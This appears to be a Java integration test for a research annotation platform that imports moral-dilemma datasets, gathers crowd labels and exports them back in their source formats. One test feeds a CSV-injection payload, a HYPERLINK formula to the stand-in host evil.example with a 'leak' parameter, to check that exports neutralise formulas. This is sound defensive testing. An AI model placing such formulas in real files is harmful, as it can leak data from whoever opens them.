package org.moralbase.annotation;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.moralbase.IntegrationTest;
import org.moralbase.audit.AuditAction;
import org.moralbase.audit.AuditEntry;
import org.moralbase.audit.AuditService;
import org.moralbase.base.Roles;
import org.moralbase.dataimport.DatasetSource;
import org.moralbase.dataimport.Fixtures;
import org.moralbase.dataimport.format.DatasetFormat;
import org.moralbase.dataimport.format.DatasetItem;
import org.moralbase.dataimport.format.FormatChoice;
import org.moralbase.dataimport.format.Formats;
import org.moralbase.dataimport.format.ReleasedFiles;
import org.moralbase.participation.ProlificIds;
import org.moralbase.security.TestLogins;
import org.moralbase.study.Recruitment;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class SourceFormatExportIT extends IntegrationTest {

    @Autowired
    TestLogins logins;

    @Autowired
    AnnotationProjectService projects;

    @Autowired
    ItemImportService imports;

    @Autowired
    CrowdLinkService links;

    @Autowired
    CrowdWorkService crowd;

    @Autowired
    QualityService quality;

    @Autowired
    AnnotationExportService export;

    @Autowired
    AuditService audit;

    @AfterEach
    void signOut() {
        logins.signOut();
    }

    @Test
    void itemTextsASpreadsheetWouldRunAsFormulasAreExportedAsText() {
        logins.signIn(logins.createUser("res", Roles.RESEARCHER));
        long projectId = projects.create("Formulas", ProjectTemplate.BLANK).id();
        imports.importItems(
                projectId,
                FormatChoice.DETECT,
                DatasetSource.ofText(
                        "pairs.csv",
                        "id,context,option_a,option_b\n"
                                + "f1,\"=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\",@SUM(A1:A9),-2\n"),
                null);

        // OWASP "CSV Injection": each formula-like text gets a leading apostrophe, the number -2 stays a number
        assertThat(export.datasetCsv(projectId))
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click me\"\")\"", "'@SUM(A1:A9)")
                .doesNotContain(",=HYPERLINK", ",@SUM")
                .contains(",-2");
    }

    @Test
    void importedItemsExportInTheirOwnFormatWithFinalLabelsAndReadBackThroughTheSameImporter() {
        String researcher = logins.createUser("res", Roles.RESEARCHER);
        logins.signIn(researcher);
        long projectId =
                projects.create("Source formats", ProjectTemplate.BLANK).id();
        projects.addQuestion(projectId, QuestionSpec.singleChoice("pick", "Which?", List.of("A", "B"), false), false);
        DatasetSource mc = Fixtures.source("mc_good.csv");
        DatasetSource scruples = Fixtures.source("scruples_good.jsonl");
        int mcItems =
                imports.importItems(projectId, FormatChoice.DETECT, mc, null).items();
        int scruplesItems = imports.importItems(projectId, FormatChoice.DETECT, scruples, null)
                .items();
        CrowdLink link = links.open(projectId, Recruitment.PROLIFIC, "DONE", null);
        logins.signOut();

        // two crowd workers (k = 3 by default): every item gets two "A" judgements
        for (String pid : List.of("W1", "W2")) {
            CrowdStart.Ready ready = (CrowdStart.Ready) crowd.arrive(
                    link.code(),
                    Map.of(
                            "PROLIFIC_PID",
                            List.of(ProlificIds.of(pid)),
                            "STUDY_ID",
                            List.of(ProlificIds.of("s")),
                            "SESSION_ID",
                            List.of(ProlificIds.of(pid))));
            List<String> seen = new ArrayList<>();
            for (Optional<WorkItem> next = crowd.next(projectId, ready.workerId());
                    next.isPresent();
                    next = crowd.next(projectId, ready.workerId())) {
                seen.add(next.get().itemKey());
                crowd.submit(projectId, ready.workerId(), next.get().assignmentId(), Map.of("pick", "A"));
            }
            assertThat(seen).hasSize(mcItems + scruplesItems);
        }

        logins.signIn(researcher);
        quality.adjudicate(projectId, "H_001", "pick", "B");
        assertThat(export.sourceFormats(projectId))
                .containsExactly(
                        new SourceFormatOption("MORAL_CHOICE", "MoralChoice (CSV)", ".csv"),
                        new SourceFormatOption("SCRUPLES", "Scruples dilemmas (JSONL)", ".jsonl"));

        DatasetSource mcBack = DatasetSource.ofText("back.csv", export.sourceFormatExport(projectId, "MORAL_CHOICE"));
        assertSameItems(Formats.MORAL_CHOICE, mcBack, mc);
        List<String> lines = mcBack.name().isEmpty()
                ? List.of()
                : new String(mcBack.content()).lines().toList();
        assertThat(lines.getFirst()).endsWith(",label_pick");
        assertThat(lines)
                .filteredOn(l -> l.startsWith("H_001,"))
                .singleElement()
                .satisfies(l -> assertThat(l).endsWith(",B"));
        assertThat(lines.subList(1, lines.size()))
                .filteredOn(l -> !l.startsWith("H_001,"))
                .isNotEmpty()
                .allSatisfy(l -> assertThat(l).endsWith(",A"));

        String scruplesText = export.sourceFormatExport(projectId, "SCRUPLES");
        DatasetSource scruplesBack = DatasetSource.ofText("back.jsonl", scruplesText);
        assertSameItems(Formats.SCRUPLES, scruplesBack, scruples);
        JsonMapper json = JsonMapper.builder().build();
        assertThat(scruplesText.lines().toList()).hasSize(scruplesItems).allSatisfy(l -> {
            JsonNode labels = json.readTree(l).get("labels");
            assertThat(labels.get("pick").asString()).isEqualTo("A");
        });

        // the projects' own importer takes the exports back
        long again = projects.create("Re-import", ProjectTemplate.BLANK).id();
        assertThat(imports.importItems(again, FormatChoice.DETECT, mcBack, null).items())
                .isEqualTo(mcItems);
        assertThat(imports.importItems(again, FormatChoice.DETECT, scruplesBack, null)
                        .items())
                .isEqualTo(scruplesItems);

        List<AuditEntry> entries = new ArrayList<>();
        logins.asAdmin(() -> entries.addAll(audit.forTarget(AnnotationProjectService.TARGET, projectId, 50)));
        assertThat(entries)
                .filteredOn(e -> e.action() == AuditAction.EXPORT)
                .extracting(AuditEntry::detail)
                .contains(
                        "source format MORAL_CHOICE " + mcItems + " items",
                        "source format SCRUPLES " + scruplesItems + " items");
    }

    @Test
    void theReleasedVariantsAreDetectedKeptAsTheyStandAndExportedBack() {
        logins.signIn(logins.createUser("rel", Roles.RESEARCHER));
        long projectId =
                projects.create("Released variants", ProjectTemplate.BLANK).id();
        projects.addQuestion(projectId, QuestionSpec.singleChoice("pick", "Which?", List.of("A", "B"), false), false);
        DatasetSource gitHub = ReleasedFiles.dailyDilemmasGitHub();
        DatasetSource high = ReleasedFiles.moralChoiceHighAmbiguity();
        DatasetSource prompts = ReleasedFiles.dvbPrompts();
        assertThat(imports.importItems(projectId, FormatChoice.DETECT, gitHub, null)
                        .message())
                .isEqualTo("Stored 2 items from dailydilemmas_github.csv, recognised as DailyDilemmas (CSV).");
        assertThat(imports.importItems(projectId, FormatChoice.DETECT, high, null)
                        .message())
                .isEqualTo("Stored 3 items from moralchoice_high_ambiguity.csv, recognised as MoralChoice (CSV).");
        assertThat(imports.importItems(projectId, FormatChoice.DETECT, prompts, null)
                        .items())
                .isEqualTo(2);
        assertThat(export.sourceFormats(projectId))
                .extracting(SourceFormatOption::formatId)
                .containsExactly("DAILY_DILEMMAS", "DVB_PROMPTS", "MORAL_CHOICE");

        DatasetSource ddBack =
                DatasetSource.ofText("dd_back.csv", export.sourceFormatExport(projectId, "DAILY_DILEMMAS"));
        assertSameItems(Formats.DAILY_DILEMMAS, ddBack, gitHub);
        assertThat(new String(ddBack.content(), java.nio.charset.StandardCharsets.UTF_8))
                .startsWith("idx,basic_situation,dilemma_situation,action_type,action,negative_consequence,topic,"
                        + "topic_group,label_pick");
        DatasetSource mcBack =
                DatasetSource.ofText("mc_back.csv", export.sourceFormatExport(projectId, "MORAL_CHOICE"));
        assertSameItems(Formats.MORAL_CHOICE, mcBack, high);
        DatasetSource dvbBack =
                DatasetSource.ofText("dvb_back.json", export.sourceFormatExport(projectId, "DVB_PROMPTS"));
        assertSameItems(Formats.DVB_PROMPTS, dvbBack, prompts);
    }

    /** The exported file reads back through the format to the items of the imported one. */
    private static void assertSameItems(DatasetFormat format, DatasetSource back, DatasetSource imported) {
        List<DatasetItem> items = Formats.read(format, back);
        assertThat(items)
                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("record")
                .isEqualTo(Formats.read(format, imported));
    }
}
